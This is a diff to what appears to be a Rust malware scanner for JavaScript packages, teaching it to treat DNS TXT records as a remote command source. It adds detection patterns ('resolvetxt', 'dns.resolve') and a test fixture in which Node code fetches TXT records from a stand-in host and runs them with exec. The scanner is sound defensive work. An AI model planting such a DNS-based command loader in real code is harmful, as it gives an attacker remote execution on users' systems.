@@ -26,7 +26,8 @@ await res.text(); … exec(body)`, `data += chunk` in a `res.on('data')` handler
 parameters of `request(url, (err, res, body) => …)`):
 
 - **critical**: it is the body of a network response (fetch `.text()`/`.json()`, axios/got
-  responses, `http(s).get` data events, `XMLHttpRequest.responseText`), or a message received
+  responses, `http(s).get` data events, `XMLHttpRequest.responseText`, DNS TXT records from
+  `dns.resolveTxt`), or a message received
   on a socket (`socket.on('command', cmd => exec(cmd))`, `net` `data` events): the package runs
   whatever a server sends it, now and on every later run;
 - **critical**: code evaluated from an incoming HTTP request (`req.headers`, `req.query`,
@@ -91,6 +92,9 @@ const RECEIVED: &[&str] = &[
     "on('shell'",
     "on(\"shell\"",
     "onmessage",
+    "resolvetxt",
+    "dns.resolve(",
+    "dns.promises.resolve",
 ];
 
 /// Text that marks a value as part of an incoming HTTP request.
@@ -453,6 +457,8 @@ request("https://paste.example.invalid/raw/abc", function (err, response, body) 
 });
 "#;
         assert_eq!(run(callback)[0].severity, Severity::Critical, "{:#?}", run(callback));
+        let dns = "const dns = require('dns');\nconst { exec } = require('child_process');\ndns.resolveTxt('cmd.example.invalid', (err, records) => {\n  if (!err) exec(records.map((r) => r.join('')).join(''));\n});";
+        assert_eq!(run(dns)[0].severity, Severity::Critical, "{:#?}", run(dns));
         let socket = r#"const io = require("socket.io-client");
 const { exec } = require("child_process");
 const s = io("http://203.0.113.9:3306");
